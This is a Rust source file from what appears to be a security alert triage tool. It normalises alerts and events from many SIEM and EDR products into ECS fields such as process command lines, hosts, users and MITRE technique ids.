fn field_table(block: &str) -> Option<Map<String, Json>> {
    let mut m = Map::new();
    for line in block.lines() {
        let line = line.trim();
        // A Markdown table's row (`| process.command_line | `cmd` |`) or an aligned line.
        let (k, v) = if let Some(row) = line.strip_prefix('|') {
            let mut cells = row.split('|').map(str::trim);
            match (cells.next(), cells.next()) {
                (Some(k), Some(v)) => (k, v.trim_matches('`').trim()),
                _ => continue,
            }
        } else {
            let Some(i) = line.find(char::is_whitespace) else {
                continue;
            };
            (&line[..i], line[i..].trim())
        };
        let key_like = (k.contains('.') || k == "@timestamp")
            && k.chars()
                .all(|c| c.is_ascii_alphanumeric() || "._@".contains(c));
        if !key_like || v.is_empty() {
            continue;
        }
        let v = if k.ends_with("command_line") {
            v
        } else {
            v.split("  ")
                .next()
                .unwrap_or(v)
                .split(" (")
                .next()
                .unwrap_or(v)
                .trim()
        };
        m.insert(k.to_owned(), s(v));
    }
    let process = ["process.command_line", "process.executable", "process.name"];
    (m.len() >= 2 && process.iter().any(|k| m.contains_key(*k))).then_some(m)
}

/// A description written as `Label: value` lines (a ticket's or notification's text: `Host:`,
/// `Account:`, `Parent process:`, `Process:`), as fields by their labels — at least three of
/// them, one naming a process or command. A `Child process` line is the process; the line
/// labelled `Process` is then its parent.
fn labelled_lines(t: &str) -> Option<Map<String, Json>> {
    let mut m = Map::new();
    for line in t.lines() {
        let l = line.trim().trim_start_matches(['-', '*', '•', ' ']);
        let Some((k, v)) = l.split_once(':') else {
            continue;
        };
        let k = k.trim().trim_matches('*').trim();
        let v = v.trim().trim_matches('`').trim();
        if k.is_empty()
            || v.is_empty()
            || k.len() > 40
            || !k
                .chars()
                .all(|c| c.is_alphanumeric() || " _-/()".contains(c))
        {
            continue;
        }
        m.entry(k.to_owned())
            .or_insert_with(|| Json::String(v.to_owned()));
    }
    let key = |k: &String| generic::key(k);
    if m.len() < 3
        || !m
            .keys()
            .any(|k| key(k).contains("process") || key(k).contains("command"))
    {
        return None;
    }
    if let Some(child) = m.keys().find(|k| key(k).starts_with("child")).cloned() {
        let mut shifted = Map::new();
        for (k, v) in m {
            let n = key(&k);
            let k = if k == child {
                "Process".to_owned()
            } else if n == "process" || n == "processcommandline" || n == "commandline" {
                "Parent process".to_owned()
            } else if n.starts_with("parent") {
                "Grandparent process".to_owned()
            } else {
                k
            };
            shifted.insert(k, v);
        }
        m = shifted;
    }
    Some(m)
}

/// Normalises one parsed document.
pub fn from_json(doc: Json, position: &str) -> Result<Alert, BadAlert> {
    let raw = || excerpt(&doc.to_string());
    let Json::Object(obj) = &doc else {
        return Err(BadAlert {
            position: position.to_owned(),
            reason: format!("an alert must be a JSON object, found {}", json_type(&doc)),
            excerpt: raw(),
        });
    };
    if obj.is_empty() {
        return Err(BadAlert {
            position: position.to_owned(),
            reason: "empty object".into(),
            excerpt: raw(),
        });
    }
    let (mut ecs, id) = normalize(obj.clone());
    ecs_types(&mut ecs);
    // A shape nothing above knew: the process looked for by its usual field names.
    let named = |k: &str| {
        ecs.get("process")
            .and_then(|p| p.get(k))
            .is_some_and(|v| v.as_str().is_some_and(|s| !s.is_empty()))
    };
    if !named("command_line")
        && !named("executable")
        && !named("name")
        && !ecs.contains_key("powershell")
        && let Some(found) = generic::fields(obj).or_else(|| generic::fields(&ecs))
    {
        for (k, v) in found {
            match (ecs.get_mut(&k), v) {
                (Some(Json::Object(have)), Json::Object(add)) => {
                    for (k2, v2) in add {
                        have.entry(k2).or_insert(v2);
                    }
                }
                // `host: "name"` where ECS wants an object: the object found for it.
                (None, v) | (Some(Json::String(_)), v @ Json::Object(_)) => {
                    ecs.insert(k, v);
                }
                _ => {}
            }
        }
        ecs.entry("original").or_insert_with(|| doc.clone());
    } else if !named("command_line")
        && ecs
            .get("process")
            .and_then(|p| p.get("args"))
            .is_none_or(|a| a.as_array().is_none_or(Vec::is_empty))
        && let Some(found) = generic::fields(&ecs).or_else(|| generic::fields(obj))
        && let Some(cmd) = found
            .get("process")
            .and_then(|p| p.get("command_line"))
            .and_then(Json::as_str)
    {
        // A reader that found the program but not its arguments (an auditd record cut short,
        // the arguments in a field of the product's own): the command line the document names
        // for that same program.
        let name = ecs
            .get("process")
            .and_then(|p| p.get("name").or_else(|| p.get("executable")))
            .and_then(Json::as_str)
            .map(|n| basename_of(n).to_ascii_lowercase());
        if name.is_none_or(|n| basename_of(program(cmd)).eq_ignore_ascii_case(&n)) {
            set_path(
                &mut ecs,
                "process.command_line",
                Json::String(cmd.to_owned()),
            );
        }
    }
    // A process read without its parent, where the document names one by the usual field
    // names (`parent: {path, command_line}` beside an ECS-like process): that parent.
    let parent_named = ecs
        .get("process")
        .and_then(|p| p.get("parent"))
        .is_some_and(|pp| {
            ["name", "executable", "command_line"].iter().any(|k| {
                pp.get(*k)
                    .and_then(Json::as_str)
                    .is_some_and(|v| !v.is_empty())
            })
        });
    if !parent_named
        && ecs.get("process").is_some_and(Json::is_object)
        && let Some(found) = generic::fields(obj)
        && let Some(Json::Object(parent)) = found.get("process").and_then(|p| p.get("parent"))
    {
        for (k, v) in parent {
            set_path(&mut ecs, &format!("process.parent.{k}"), v.clone());
        }
    }
    // Still no process: the event may be embedded as text — JSON text in a field (a GraphQL
    // alert's `json`, a detection's `raw`) or a fenced code block in a description or a chat
    // message (a JSON event, audit records): read it, with the host, user, rule and techniques
    // the outer document names where it lacks them.
    if !names_process(&ecs)
        && !ecs.contains_key("powershell")
        && let Some(mut inner) = wrapped_event(obj)
            .or_else(|| wrapped_event(&ecs))
            .or_else(|| embedded_event(&doc))
    {
        for k in ["host", "user", "rule", "threat", "@timestamp"] {
            if let Some(v) = ecs.get(k) {
                inner.entry(k).or_insert_with(|| v.clone());
            }
        }
        ecs = inner;
    }
    // Elastic Defend's behaviour alerts list what the process went on to start under
    // `process.Ext.descendants`: their command lines follow its own, as branches.
    let descendants: Vec<String> = ecs
        .get("process")
        .and_then(|p| p.get("Ext"))
        .and_then(|x| x.get("descendants"))
        .and_then(Json::as_array)
        .into_iter()
        .flatten()
        .filter_map(|d| {
            d.get("command_line")
                .and_then(Json::as_str)
                .map(str::to_owned)
                .or_else(|| edr::joined_args(d))
        })
        .collect();
    if !descendants.is_empty()
        && let Some(own) = ecs
            .get("process")
            .and_then(|p| p.get("command_line"))
            .and_then(Json::as_str)
            .filter(|c| !c.contains('\n'))
        && let Some(all) = edr::with_branches(Some(own), descendants.iter().map(String::as_str))
        && let Some(Json::Object(p)) = ecs.get_mut("process")
    {
        p.insert("command_line".into(), Json::String(all));
    }
    let has_substance = [
        "process",
        "powershell",
        "destination",
        "dns",
        "file",
        "kibana",
        "event",
        "host",
        "message",
        "threat",
        "rule",
        "network",
    ]
    .iter()
    .any(|k| ecs.get(*k).is_some());
    if !has_substance {
        return Err(BadAlert {
            position: position.to_owned(),
            reason: "no recognisable alert fields (expected ECS fields such as process.*, host.*, event.*, or a Windows event with EventID)".into(),
            excerpt: raw(),
        });
    }
    let id = id.unwrap_or_else(|| {
        let h = Sha256::digest(serde_json::to_vec(&doc).unwrap_or_default());
        format!("sha256:{}", &hex::encode(h)[..32])
    });
    Ok(Alert {
        id,
        doc: Json::Object(ecs),
        position: position.to_owned(),
    })
}

fn json_type(v: &Json) -> &'static str {
    match v {
        Json::Null => "null",
        Json::Bool(_) => "a boolean",
        Json::Number(_) => "a number",
        Json::String(_) => "a string",
        Json::Array(_) => "an array",
        Json::Object(_) => "an object",
    }
}

/// Sets a dotted path in a nested object, creating objects on the way. An existing value is
/// kept (nested wins over a later dotted duplicate), so mixed documents merge deterministically.
pub fn set_path(root: &mut Map<String, Json>, path: &str, v: Json) {
    let mut parts = path.split('.').peekable();
    let mut cur = root;
    while let Some(p) = parts.next() {
        if parts.peek().is_none() {
            match cur.get_mut(p) {
                Some(Json::Object(existing)) => {
                    if let Json::Object(new) = v {
                        for (k, nv) in new {
                            set_path(existing, &k, nv);
                        }
                    }
                }
                // A null left by a damaged record is no value: fill it.
                Some(existing) if existing.is_null() => *existing = v,
                Some(_) => {}
                None => {
                    cur.insert(p.to_owned(), v);
                }
            }
            return;
        }
        let entry = cur
            .entry(p.to_owned())
            .or_insert_with(|| Json::Object(Map::new()));
        if !entry.is_object() {
            return; // a scalar is in the way; keep it
        }
        cur = entry.as_object_mut().expect("checked");
    }
}

/// Reads a dotted path from a document being built (no copy of it made).
pub(crate) fn get_in<'a>(root: &'a Map<String, Json>, path: &str) -> Option<&'a Json> {
    match path.split_once('.') {
        Some((k, rest)) => get_path(root.get(k)?, rest),
        None => root.get(path),
    }
}

/// Reads a dotted path from a nested object.
pub fn get_path<'a>(root: &'a Json, path: &str) -> Option<&'a Json> {
    let mut cur = root;
    for p in path.split('.') {
        cur = cur.get(p)?;
    }
    Some(cur)
}

fn get_str<'a>(root: &'a Json, path: &str) -> Option<&'a str> {
    get_path(root, path)
        .and_then(Json::as_str)
        .filter(|s| !s.is_empty() && *s != "-")
}

/// Expands dotted keys at every level into nested objects.
pub fn expand(obj: Map<String, Json>) -> Map<String, Json> {
    let mut out = Map::new();
    // Nested keys first so they win over dotted duplicates.
    let (dotted, plain): (Vec<_>, Vec<_>) = obj.into_iter().partition(|(k, _)| k.contains('.'));
    for (k, v) in plain.into_iter().chain(dotted) {
        let v = match v {
            Json::Object(o) => Json::Object(expand(o)),
            Json::Array(a) => Json::Array(
                a.into_iter()
                    .map(|x| {
                        if let Json::Object(o) = x {
                            Json::Object(expand(o))
                        } else {
                            x
                        }
                    })
                    .collect(),
            ),
            other => other,
        };
        set_path(&mut out, &k, v);
    }
    out
}

/// A Splunk search row: fields extracted from JSON events keep their paths as dotted names
/// (`event.exec.target.executable.path`), a multi-value one with spath's `{}` (`args{}`). They
/// are nested back into the event's own shape, so the event's reader knows it; a dotted name
/// whose head is already a plain field (CIM's `process`) stays as it is.
/// The document inside its forwarding envelopes, possibly nested (at most four deep).
fn open_envelopes(mut obj: Map<String, Json>) -> Map<String, Json> {
    for _ in 0..4 {
        match siem::unwrap_envelope(&obj) {
            Some(inner) => obj = inner,
            None => break,
        }
    }
    obj
}

/// The fields Splunk adds to every event it indexes.
const SPLUNK_META: &[&str] = &[
    "host",
    "source",
    "sourcetype",
    "index",
    "splunk_server",
    "linecount",
    "punct",
    "eventtype",
    "tag",
    "timestartpos",
    "timeendpos",
];

fn splunk_row(row: Map<String, Json>) -> Map<String, Json> {
    let mut out = Map::new();
    let mut dotted = Vec::new();
    for (k, v) in row {
        let k = if k.contains("{}") {
            k.replace("{}", "")
        } else {
            k
        };
        if k.contains('.') {
            dotted.push((k, v));
        } else {
            out.insert(k, v);
        }
    }
    for (k, v) in dotted {
        let head = k.split('.').next().unwrap_or_default();
        match out.get(head) {
            Some(h) if !h.is_object() => {
                out.insert(k, v);
            }
            _ => set_path(&mut out, &k, v),
        }
    }
    out
}

/// ECS document and the source's alert id, if it has one.
pub fn normalize(mut obj: Map<String, Json>) -> (Map<String, Json>, Option<String>) {
    let mut id: Option<String> = None;
    // Forwarding envelopes (XSOAR's rawJSON, Splunk HEC, JSON text in a shipper's message),
    // possibly nested: opened before anything else reads the document.
    obj = open_envelopes(obj);
    // A Sentinel incident as the REST API returns it (`Microsoft.SecurityInsights/Incidents`):
    // its first alert's custom details are the analytic rule's query columns (Defender's
    // `ProcessCommandLine`, `InitiatingProcessCommandLine`, `DeviceName` …), each a list; read
    // as that row, several values of one column as branches of the command.
    if obj.get("type").and_then(Json::as_str) == Some("Microsoft.SecurityInsights/Incidents")
        && let Some(details) = obj
            .get("properties")
            .and_then(|p| p.get("alerts"))
            .and_then(Json::as_array)
            .and_then(|a| a.iter().find_map(|x| x.get("customDetails")?.as_object()))
    {
        let mut row = Map::new();
        for (k, v) in details {
            let text = match v {
                Json::Array(a) => a
                    .iter()
                    .filter_map(|x| match x {
                        Json::String(s) => Some(s.clone()),
                        Json::Number(n) => Some(n.to_string()),
                        _ => None,
                    })
                    .collect::<Vec<_>>()
                    .join("\n"),
                Json::String(s) => s.clone(),
                Json::Number(n) => n.to_string(),
                _ => continue,
            };
            if !text.is_empty() {
                row.insert(k.clone(), Json::String(text));
            }
        }
        let props = obj.get("properties").cloned().unwrap_or_default();
        if let Some(title) = props.get("title").and_then(Json::as_str) {
            row.entry("AlertName").or_insert_with(|| s(title));
        }
        if let Some(t) = props
            .get("additionalData")
            .and_then(|a| a.get("techniques"))
            .cloned()
        {
            row.insert("sentinel_incident_techniques".into(), t);
        }
        if !row.contains_key("DeviceName")
            && let Some(h) = props
                .get("entities")
                .or_else(|| obj.get("entities"))
                .and_then(Json::as_array)
                .and_then(|e| {
                    e.iter()
                        .find(|x| x.get("kind").and_then(Json::as_str) == Some("Host"))
                })
                .and_then(|h| h.get("properties")?.get("hostName")?.as_str())
        {
            row.insert("DeviceName".into(), s(h));
        }
        if row.contains_key("ProcessCommandLine")
            || row.contains_key("InitiatingProcessCommandLine")
        {
            id = obj.get("name").and_then(Json::as_str).map(str::to_owned);
            row.insert("sentinel_incident".into(), Json::Object(obj.clone()));
            obj = row;
        }
    }
    let mut splunk_meta: Vec<(&str, String)> = Vec::new();
    // A Splunk search result as the REST API's JSON export streams it, or as the webhook alert
    // action posts it (`sid`, `search_name`): the row under `result`.
    if (obj.contains_key("preview")
        || obj.contains_key("lastrow")
        || obj.contains_key("offset")
        || (obj.contains_key("sid") && obj.contains_key("search_name")))
        && let Some(Json::Object(row)) = obj.get("result").cloned()
    {
        obj = splunk_row(row);
        splunk_meta = ["host", "user"]
            .into_iter()
            .filter_map(|k| Some((k, obj.get(k)?.as_str()?.to_owned())))
            .collect();
        // A row that is Splunk's metadata and the fields it extracted or looked up around a
        // JSON event (`_raw`, as HEC indexed it): the event itself, which its own reader
        // knows, with the fields the search added beside it (`parent_ImageFileName` from a
        // lookup) where the event lacks them.
        if let Some(mut inner) = obj.get("_raw").and_then(siem::json_text) {
            for (k, v) in &obj {
                if !k.starts_with('_') && !SPLUNK_META.contains(&k.as_str()) {
                    inner.entry(k.clone()).or_insert_with(|| v.clone());
                }
            }
            obj = open_envelopes(inner);
        }
    }
    // Elasticsearch hit
    if let Some(Json::Object(src)) = obj.get("_source").cloned() {
        id = obj.get("_id").and_then(Json::as_str).map(str::to_owned);
        obj = src;
        if let Some(inner) = siem::unwrap_envelope(&obj) {
            obj = inner;
        }
    }
    // A Log Analytics custom table's row: the document it was sent as, rebuilt from its typed
    // columns.
    if let Some(doc) = siem::log_analytics_custom(&obj) {
        obj = doc;
    }
    if let Some(doc) = siem::teleport_exec(&obj) {
        obj = doc;
    }
    // Defender's streaming API (to an event hub or storage account): one advanced-hunting row
    // under `properties`, the table named by `category` (`AdvancedHunting-DeviceProcessEvents`).
    if obj
        .get("category")
        .and_then(Json::as_str)
        .is_some_and(|c| c.starts_with("AdvancedHunting-"))
        && let Some(Json::Object(row)) = obj.get("properties").cloned()
    {
        obj = row;
    }
    // A row of Sentinel's `Event` table: the Windows event's fields as XML under `EventData`.
    if let Some(flat) = siem::sentinel_event_row(&obj) {
        obj = flat;
    }
    // A Devo alert: the event that raised it is JSON text under `extraData`.
    let mut devo_rule = None;
    if let Some((inner, rule)) = siem::devo_event(&obj) {
        id = obj.get("alertId").and_then(Json::as_str).map(str::to_owned);
        obj = inner;
        devo_rule = Some(rule);
    }
    // A Panther alert: its first matched event, the rule and its techniques carried along.
    let mut carried_techniques = Vec::new();
    let mut carried_rule = None;
    if let Some((event, pid, rule, techniques)) = siem::panther_alert(&obj) {
        id = id.or(pid);
        obj = event;
        carried_rule = rule;
        carried_techniques = techniques;
    }
    // Chainsaw's hunt output: the rule that fired, and the matched record under
    // `document.data` (an EVTX event, or a JSON log line).
    let mut chainsaw_rule = None;
    if obj.contains_key("kind")
        && (obj.contains_key("name") || obj.contains_key("tags"))
        && let Some(Json::Object(data)) = obj.get("document").and_then(|d| d.get("data")).cloned()
    {
        let mut rule = Map::new();
        for (from, to) in [
            ("name", "title"),
            ("id", "id"),
            ("tags", "tags"),
            ("level", "level"),
        ] {
            if let Some(v) = obj.get(from) {
                rule.insert(to.into(), v.clone());
            }
        }
        chainsaw_rule = Some(Json::Object(rule));
        obj = data;
    }
    // A Windows event exported as JSON from its XML (evtx_dump, python-evtx/xmltodict, Chainsaw):
    // {"Event": {"System": {...}, "EventData": {...}}}; flattened into the NXLog shape.
    if let Some(flat) = evtx_event(&obj) {
        obj = flat;
    }
    if let Some(rule) = chainsaw_rule {
        obj.entry("rule").or_insert(rule);
    }
    if let Some(r) = devo_rule.filter(|r| !r.is_empty()) {
        obj.entry("rule")
            .or_insert(serde_json::json!({ "name": r }));
    }
    // Endpoint agents' own shapes: CrowdStrike Falcon detections, macOS eslogger exec events,
    // osquery result lines, SentinelOne events, Falco and Tetragon events, Carbon Black Cloud alerts, Microsoft
    // Graph and Sentinel alerts' process evidence (read before Splunk's CIM fields, which share
    // `process_name`).
    for adapter in [
        ocsf::ocsf,
        edr::crowdstrike,
        edr::eslogger,
        edr::osquery,
        edr::sentinelone,
        kubernetes::kubernetes_exec,
        edr::falco,
        edr::tetragon,
        edr::laurel,
        edr::jamf_telemetry,
        edr::guardduty,
        edr::datadog_signal,
        edr::santa_telemetry,
        edr::santa_event_upload,
        edr::carbon_black,
        edr::microsoft_evidence,
        edr::chronicle_udm,
        edr::cortex_xdr,
        edr::trend_workbench,
        xdr::fireeye_hx,
        xdr::uptycs,
        xdr::cybereason,
        xdr::cisco_secure_endpoint,
        xdr::limacharlie,
        xdr::gcp_scc,
        xdr::carbon_black_edr,
        xdr::tracee,
        xdr::prisma_runtime,
        xdr::wazuh_syscheck,
        xdr::sophos_central,
        xdr::sophos_detection,
        siem::sentinel_asim,
        siem::correlated_events,
        siem::sumo_cse_records,
        siem::rapid7_idr,
        siem::thehive_alert,
        siem::trend_detection,
        siem::sekoia_alert,
        siem::exchange_cmdlet,
        siem::shell_log_commands,
        edr::cef_json,
        edr::launchd_plist,
        edr::go_audit,
        edr::log_lines,
    ] {
        if let Some((ecs, vid)) = adapter(&obj) {
            obj = ecs;
            id = id.or(vid);
            // The Splunk row's own host and user, where the event did not name them.
            for (k, v) in splunk_meta.drain(..) {
                if obj.get(k).and_then(|o| o.get("name")).is_none() {
                    set_path(&mut obj, &format!("{k}.name"), Json::String(v));
                }
            }
            break;
        }
    }
    // Splunk ES notables carry the CIM Endpoint fields (`process` is the command line there).
    // A Windows add-on's 4688 row has CIM aliases too (`process_name`, `parent_process_name`)
    // but its own labels carry more (paths, command line, both accounts): read below.
    let windows_4688_row = obj.contains_key("EventCode") && obj.contains_key("New_Process_Name");
    if !windows_4688_row && let Some(cim) = splunk_cim(&obj) {
        obj = cim;
    }
    // Hayabusa's timeline lines: the event's fields abbreviated under `Details`.
    if let Some(flat) = hayabusa(&obj) {
        obj = flat;
    }
    // Jamf Protect alerts (macOS): the event's process among `related.processes`.
    if let Some((jp, jid)) = jamf_protect(&obj) {
        obj = jp;
        id = id.or(jid);
    }
    // A Sigma engine's match that nests the matched event's own fields under `event`.
    if let Some(Json::Object(ev)) = obj.get("event").cloned()
        && (ev.contains_key("CommandLine") || ev.contains_key("Image"))
    {
        obj.remove("event");
        for (k, v) in ev {
            let k = match k.as_str() {
                "host" => "Computer".to_owned(),
                "user" => "User".to_owned(),
                _ => k,
            };
            obj.entry(k).or_insert(v);
        }
    }
    // A Sigma engine's match of a process-creation event: the event's own fields, no event id.
    if !obj.contains_key("EventID")
        && !obj.contains_key("process")
        && obj.contains_key("Image")
        && obj.contains_key("CommandLine")
    {
        obj.insert("EventID".into(), Json::from(1));
    }
    // Splunk's Windows add-on names a classic-rendered 4688 by its message labels
    // (`New_Process_Name`, `Creator_Process_Name`, `Process_Command_Line`, the creator's and
    // the target's `Account_Name` as one multi-value field): read under the event's own names.
    if obj.contains_key("EventCode") && obj.contains_key("New_Process_Name") {
        let first_last = |v: &Json| -> (Option<Json>, Option<Json>) {
            match v {
                Json::Array(a) => (a.first().cloned(), a.get(1).cloned()),
                other => (Some(other.clone()), None),
            }
        };
        for (from, to) in [
            ("New_Process_Name", "NewProcessName"),
            ("Creator_Process_Name", "ParentProcessName"),
            ("Process_Command_Line", "CommandLine"),
            ("New_Process_ID", "NewProcessId"),
            ("Creator_Process_ID", "ProcessId"),
            ("Token_Elevation_Type", "TokenElevationType"),
            ("Mandatory_Label", "MandatoryLabel"),
            ("ComputerName", "Hostname"),
        ] {
            if let Some(v) = obj.get(from).cloned() {
                obj.entry(to).or_insert(v);
            }
        }
        for (from, subject, target) in [
            ("Account_Name", "SubjectUserName", "TargetUserName"),
            ("Account_Domain", "SubjectDomainName", "TargetDomainName"),
        ] {
            if let Some((a, b)) = obj.get(from).map(first_last) {
                if let Some(a) = a {
                    obj.entry(subject).or_insert(a);
                }
                if let Some(b) = b.filter(|b| b.as_str().is_some_and(|t| t != "-")) {
                    obj.entry(target).or_insert(b);
                }
            }
        }
        if let Some(h) = obj.remove("host").filter(Json::is_string) {
            obj.entry("Hostname").or_insert(h);
        }
    }
    // A Windows event as Splunk extracts it: `EventCode` beside the event's own fields.
    if !obj.contains_key("EventID")
        && !obj.contains_key("process")
        && [
            "ScriptBlockText",
            "CommandLine",
            "Image",
            "Payload",
            "NewProcessName",
        ]
        .iter()
        .any(|k| obj.contains_key(*k))
        && let Some(code) = obj.get("EventCode").cloned()
    {
        obj.insert("EventID".into(), code);
    }
    let flat_windows = ["EventID", "EventId", "event_id"]
        .iter()
        .any(|k| obj.contains_key(*k))
        && !obj.contains_key("event")
        && !obj.keys().any(|k| k.starts_with("event."));
    let mut ecs = if flat_windows {
        // An event's data kept as an object beside the flat header (`EventData: {…}`,
        // `Provider: {"Name"}`), as some shippers serialise it: its fields read as the
        // header's.
        let mut flat = obj.clone();
        for k in ["EventData", "UserData", "event_data"] {
            if let Some(Json::Object(data)) = obj.get(k) {
                for (n, v) in data {
                    flat.entry(n.clone()).or_insert_with(|| v.clone());
                }
            }
        }
        if let Some(n) = obj.get("Provider").and_then(|p| p.get("Name")) {
            flat.entry("ProviderName").or_insert_with(|| n.clone());
        }
        // The data as a list of unnamed values (the event's insertion strings, as Fluentd's
        // and some Windows shippers give them): named by the event's template where Riposte
        // knows it — a service install (7045) and a new process (4688).
        if let Some(Json::Array(values)) = obj.get("EventData") {
            let id = obj
                .get("EventID")
                .or_else(|| obj.get("EventId"))
                .map(|v| {
                    v.as_str()
                        .map(str::to_owned)
                        .unwrap_or_else(|| v.to_string())
                })
                .unwrap_or_default();
            let names: &[&str] = match id.as_str() {
                "7045" => &[
                    "ServiceName",
                    "ImagePath",
                    "ServiceType",
                    "StartType",
                    "AccountName",
                ],
                "4688" => &[
                    "SubjectUserSid",
                    "SubjectUserName",
                    "SubjectDomainName",
                    "SubjectLogonId",
                    "NewProcessId",
                    "NewProcessName",
                    "TokenElevationType",
                    "ProcessId",
                    "CommandLine",
                    "TargetUserSid",
                    "TargetUserName",
                    "TargetDomainName",
                    "TargetLogonId",
                    "ParentProcessName",
                    "MandatoryLabel",
                ],
                _ => &[],
            };
            for (n, v) in names.iter().zip(values) {
                flat.entry((*n).to_owned()).or_insert_with(|| v.clone());
            }
        }
        windows_flat(&flat)
    } else {
        expand(obj)
    };
    let doc = Json::Object(ecs.clone());

    // winlogbeat without ingest pipelines: map winlog.event_data like a flat event
    if !flat_windows
        && get_path(&doc, "process").is_none()
        && let Some(Json::Object(ed)) = get_path(&doc, "winlog.event_data")
    {
        let mut flat = ed.clone();
        if let Some(eid) =
            get_path(&doc, "winlog.event_id").or_else(|| get_path(&doc, "event.code"))
        {
            flat.insert("EventID".into(), eid.clone());
        }
        if let Some(h) =
            get_path(&doc, "winlog.computer_name").or_else(|| get_path(&doc, "host.name"))
        {
            flat.insert("Hostname".into(), h.clone());
        }
        if let Some(c) = get_path(&doc, "winlog.channel") {
            flat.insert("Channel".into(), c.clone());
        }
        let mapped = windows_flat(&flat);
        for (k, v) in mapped {
            if k != "winlog" {
                set_path(&mut ecs, &k, v);
            }
        }
    } else if !flat_windows
        && let Some(Json::Object(ed)) = get_path(&doc, "winlog.event_data")
        && (ed.contains_key("ParentCommandLine") || ed.contains_key("CommandLine"))
    {
        // winlogbeat's ECS fields beside the event's own: the event fills what the ECS
        // mapping left out (a parent's command line), the ECS fields stay as they are.
        let mut flat = ed.clone();
        if let Some(eid) =
            get_path(&doc, "winlog.event_id").or_else(|| get_path(&doc, "event.code"))
        {
            flat.insert("EventID".into(), eid.clone());
        }
        fn fill(into: &mut Map<String, Json>, from: Map<String, Json>) {
            for (k, v) in from {
                match (into.get_mut(&k), v) {
                    (Some(Json::Object(a)), Json::Object(b)) => fill(a, b),
                    (None, v) => {
                        into.insert(k, v);
                    }
                    _ => {}
                }
            }
        }
        let mut mapped = windows_flat(&flat);
        mapped.remove("winlog");
        for k in ["process", "user"] {
            match (mapped.remove(k), ecs.get_mut(k)) {
                (Some(Json::Object(from)), Some(Json::Object(into))) => fill(into, from),
                // The event's account where the ECS mapping named none.
                (Some(from @ Json::Object(_)), None) => {
                    ecs.insert(k.to_owned(), from);
                }
                _ => {}
            }
        }
    }

    // winlogbeat's `winlog.user` on a PowerShell event is the account that ran the script (on
    // a Sysmon event it would be Sysmon's own service account, so only PowerShell's channels).
    if !flat_windows
        && get_str(&doc, "winlog.channel")
            .is_some_and(|c| c.to_ascii_lowercase().contains("powershell"))
        && ecs.get("user").and_then(|u| u.get("name")).is_none()
        && let Some(name) = get_str(&doc, "winlog.user.name").filter(|n| !n.trim().is_empty())
    {
        set_path(&mut ecs, "user.name", Json::String(name.to_owned()));
        for (from, to) in [
            ("winlog.user.domain", "user.domain"),
            ("winlog.user.identifier", "user.id"),
        ] {
            if let Some(v) = get_str(&doc, from).filter(|v| !v.trim().is_empty()) {
                set_path(&mut ecs, to, Json::String(v.to_owned()));
            }
        }
    }

    // Wazuh alerts (from the Wazuh indexer): Windows events under data.win, auditd commands
    // under data.audit; the agent is the host, rule.mitre.id the techniques.
    if !flat_windows && !ecs.contains_key("process") {
        wazuh(&mut ecs, &mut id);
    }
    // Microsoft Defender for Endpoint / Sentinel advanced hunting rows (DeviceProcessEvents,
    // DeviceNetworkEvents, DeviceEvents): one flat row per event, on every OS Defender covers.
    if !flat_windows && defender_row(&ecs) {
        defender(&mut ecs, &mut id);
    }

    edr::elastic_events(&mut ecs);
    edr::santa_pipes(&mut ecs);
    // Elastic Security detection alert: techniques from the rule's threat mapping.
    let doc = Json::Object(ecs.clone());
    if let Some(u) = get_str(&doc, "kibana.alert.uuid") {
        id = Some(u.to_owned());
    }
    let mut techniques: Vec<String> = carried_techniques;
    for path in [
        "kibana.alert.rule.threat",
        "threat",
        "signal.rule.threat",
        "kibana.alert.rule.parameters.threat",
    ] {
        collect_techniques(get_path(&doc, path), &mut techniques);
    }
    // Sigma tags (`attack.t1059.001`) and Defender's AttackTechniques ("Name (T1059)").
    for path in [
        "rule.tags",
        "tags",
        "sigma.tags",
        "winlog.event_data.rule.tags",
    ] {
        if let Some(Json::Array(a)) = get_path(&doc, path) {
            for t in a.iter().filter_map(Json::as_str) {
                if let Some(id) = t.strip_prefix("attack.") {
                    let id = id.to_uppercase();
                    if crate::load::is_technique(&id) {
                        push_unique(&mut techniques, &id);
                    }
                }
            }
        }
    }
    if let Some(t) = get_str(&doc, "AttackTechniques") {
        for id in t.split(|c: char| !(c.is_ascii_alphanumeric() || c == '.')) {
            if crate::load::is_technique(id) {
                push_unique(&mut techniques, id);
            }
        }
    }
    // Wazuh: rule.mitre.id is a list of technique ids.
    if let Some(Json::Array(a)) = get_path(&doc, "rule.mitre.id") {
        for t in a.iter().filter_map(Json::as_str) {
            if crate::load::is_technique(t) {
                push_unique(&mut techniques, t);
            }
        }
    }
    if let Some(Json::Array(a)) = get_path(&doc, "threat.technique.id") {
        for t in a.iter().filter_map(Json::as_str) {
            push_unique(&mut techniques, t);
        }
    } else if let Some(t) = get_str(&doc, "threat.technique.id") {
        push_unique(&mut techniques, t);
    }
    if !techniques.is_empty() {
        set_path(&mut ecs, "threat.technique.id", Json::Null);
        if let Some(Json::Object(t)) = ecs.get_mut("threat") {
            if let Some(Json::Object(tech)) = t.get_mut("technique") {
                tech.insert(
                    "id".into(),
                    Json::Array(techniques.iter().map(|s| Json::String(s.clone())).collect()),
                );
            } else {
                t.insert("technique".into(), serde_json::json!({"id": techniques}));
            }
        } else {
            ecs.insert(
                "threat".into(),
                serde_json::json!({"technique": {"id": techniques}}),
            );
        }
    }
    if id.is_none() {
        id = get_str(&doc, "event.id").map(str::to_owned);
    }
    if let Some(r) = carried_rule
        && get_path(&doc, "rule.name").is_none()
    {
        set_path(&mut ecs, "rule.name", Json::String(r));
    }
    derive(&mut ecs);
    (ecs, id)
}

/// The text of an XML-derived JSON value: a scalar, or `#text` / `$` of an element object.
fn xml_text(v: &Json) -> Option<Json> {
    match v {
        Json::String(_) | Json::Number(_) | Json::Bool(_) => Some(v.clone()),
        // `value` beside attributes: Datadog's parse of `<EventID Qualifiers="…">7045</EventID>`.
        Json::Object(o) => o
            .get("#text")
            .or_else(|| o.get("$"))
            .or_else(|| o.get("value"))
            .and_then(xml_text),
        _ => None,
    }
}

/// An attribute of an XML-derived element: `#attributes.Name` (evtx_dump), `@Name` (xmltodict)
/// or a plain `Name` beside the element's `#text` (converters that merge attributes).
fn xml_attr<'a>(v: &'a Json, name: &str) -> Option<&'a Json> {
    let o = v.as_object()?;
    o.get("#attributes")
        .and_then(|a| a.get(name))
        .or_else(|| o.get(&format!("@{name}")))
        .or_else(|| o.get(name).filter(|v| v.is_string()))
}

/// `{"Event": {"System": …, "EventData": …}}` (or `UserData`) as one flat NXLog-style record.
fn evtx_event(obj: &Map<String, Json>) -> Option<Map<String, Json>> {
